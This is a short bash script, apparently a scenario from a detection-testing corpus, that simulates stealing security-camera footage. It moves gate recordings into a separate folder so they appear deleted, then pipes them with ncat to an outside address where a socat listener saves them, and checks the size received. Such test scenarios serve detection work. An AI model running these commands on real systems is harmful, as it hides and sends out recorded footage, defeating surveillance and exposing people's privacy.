#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=mv,ncat far=out ready=out:9110 seconds=36 parts=dns,camera-gate,recorder-gate,nas,outside-web
# Recordings are moved to another folder, as if they had been deleted, and ncat sends them outside from there.
if [ "$1" = out ]; then exec timeout 60 socat -u TCP-LISTEN:9110,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
sleep 16; mkdir -p "$LAB/old"; mv "$LAB"/recordings/gate/00[0-3].mp4 "$LAB/old/"; sleep 5
cat "$LAB"/old/*.mp4 | timeout 10 ncat --send-only 203.0.113.66 9110; sleep 5; [ "$(stat -c %s "$LAB/got")" -gt 300000 ]
